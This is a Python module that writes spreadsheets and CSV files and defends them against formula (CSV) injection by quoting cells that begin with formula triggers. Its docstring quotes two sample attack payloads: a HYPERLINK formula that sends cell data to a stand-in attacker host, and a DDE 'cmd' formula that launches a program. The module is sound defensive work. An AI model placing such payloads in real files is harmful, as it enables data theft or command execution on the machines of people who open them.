"""Every spreadsheet and CSV learncity writes goes through here: one formula-safe cell writer.

A provider's row, a course title or a community name that starts with `=`, `+`, `-` or `@` would come back as a
live formula in the files we hand out (`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `=cmd|' /C calc'!A0`),
and Excel trims a leading tab or space and runs it anyway. As OWASP's CSV-injection guidance recommends, any text
cell whose first non-blank character is one of `= + - @`, or that starts with a tab, carriage return or line
feed, is written as text with a single quote in front (`'=HYPERLINK(…)`): the reader sees what was typed and no
spreadsheet evaluates it, even when the cell is edited and confirmed. In xlsx such a cell is also stored as a
string cell (openpyxl would otherwise store it as a formula). Numbers stay numbers, so a negative amount is never
touched. Characters that XML cannot carry (controls other than tab and line breaks) become U+FFFD instead of
failing the whole export.

How a file is written:
- `workbook()` makes an openpyxl workbook whose `save` (and so `workbook_bytes(wb)`) neutralises every text cell
  of every sheet first, so a cell set any other way (`ws["A1"] = …`, `ws.cell(…, value=…)`, `ws.append`) cannot
  slip a formula through.
- `streaming_workbook()` for large files (openpyxl write-only mode, nothing held in memory): its sheets take rows
  only through `StreamingSheet.append` and cells through `StreamingSheet.cell`, both neutralising.
- `csv_bytes(rows)` / `CsvWriter` for CSV.
PDFs are made beside this module, in core/documents/pdf.py (Typst templates filled with data): the package
imports each on first use, so a PDF does not import openpyxl nor a spreadsheet typst.

Nothing else in the code constructs a workbook, a write-only cell or a csv writer:
tests/security/test_formula_injection.py checks the source for it (everything outside core/documents/). Reading keeps refusing formulas
(core/tabular.py and intake's parser).
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

QUOTE = "'"
_TRIGGERS = frozenset("=+-@")
_LEADING_CONTROLS = frozenset("\t\r\n")
_BLANKS = " \u00a0\u3000"  # a space, a no-break space, an ideographic (full-width) space


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula (see the module's docstring)."""
    if not text:
        return False
    if text[0] in _LEADING_CONTROLS:
        return True
    stripped = text.lstrip(_BLANKS)
    return bool(stripped) and (stripped[0] in _TRIGGERS or stripped[0] in _LEADING_CONTROLS)


def safe_text(text: str) -> str:
    """The text as it is written into a cell: XML-safe, and quoted when it could be taken for a formula."""
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
    return QUOTE + text if is_formula_like(text) else text


def safe_value(value):
    """A cell's value as written: text made safe; numbers, dates, booleans and None as they are; anything else as
    its text (a lazy translation, an enum label)."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    return safe_text(str(value))


def _neutralise(cell) -> None:
    value = cell.value
    if isinstance(value, str):
        safe = safe_text(value)
        if safe != value or cell.data_type == "f":
            cell.value = safe
        cell.data_type = "s"


# --- xlsx -------------------------------------------------------------------------------------------------------


class SafeWorkbook(Workbook):
    """openpyxl's workbook whose `save` neutralises every text cell of every sheet first, however it was set."""

    def save(self, filename) -> None:
        for ws in self.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        _neutralise(cell)
        super().save(filename)


def workbook() -> SafeWorkbook:
    """A workbook held in memory (rosters, guides, reports, templates); save it with `workbook_bytes`."""
    return SafeWorkbook()


def workbook_bytes(wb: SafeWorkbook) -> bytes:
    """The workbook as xlsx bytes, every text cell of every sheet neutralised first."""
    if not isinstance(wb, SafeWorkbook):
        raise TypeError("workbooks are made by documents.workbook()")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


class StreamingSheet:
    """A sheet of a streaming workbook: rows go in once, in order, through `append`."""

    def __init__(self, ws):
        self._ws = ws
        self.column_dimensions = ws.column_dimensions

    def cell(self, value, **style) -> Cell:
        """A cell to style (`font=`, `fill=`, `alignment=`, `number_format=`) and pass to `append`."""
        cell = WriteOnlyCell(self._ws, value=safe_value(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"
        for name, v in style.items():
            setattr(cell, name, v)
        return cell

    def append(self, values: Iterable) -> None:
        row = []
        for v in values:
            if isinstance(v, Cell) and v.parent is self._ws:
                _neutralise(v)  # again: its value may have been changed since `cell` made it
                row.append(v)
            else:
                row.append(self.cell(v))
        self._ws.append(row)


class StreamingWorkbook:
    """openpyxl's write-only workbook behind the formula-safe writer: for reports of many rows."""

    def __init__(self):
        self._wb = Workbook(write_only=True)

    def sheet(self, title: str) -> StreamingSheet:
        return StreamingSheet(self._wb.create_sheet(title))

    def save(self) -> bytes:
        buf = io.BytesIO()
        self._wb.save(buf)
        return buf.getvalue()


def streaming_workbook() -> StreamingWorkbook:
    return StreamingWorkbook()


# --- CSV --------------------------------------------------------------------------------------------------------


class CsvWriter:
    """csv.writer whose rows are neutralised like cells (text quoted with ' when it could be a formula)."""

    def __init__(self, stream, **kwargs):
        kwargs.setdefault("lineterminator", "\r\n")
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable) -> None:
        self._writer.writerow(["" if v is None else v if isinstance(v, int | float | Decimal) and not isinstance(v, bool)
                               else safe_text(str(v)) for v in values])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(rows: Iterable[Iterable], *, bom: bool = True) -> bytes:
    """Rows as UTF-8 CSV (with the byte-order mark Excel needs to open it as UTF-8 unless bom=False)."""
    buf = io.StringIO()
    CsvWriter(buf).writerows(rows)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8")
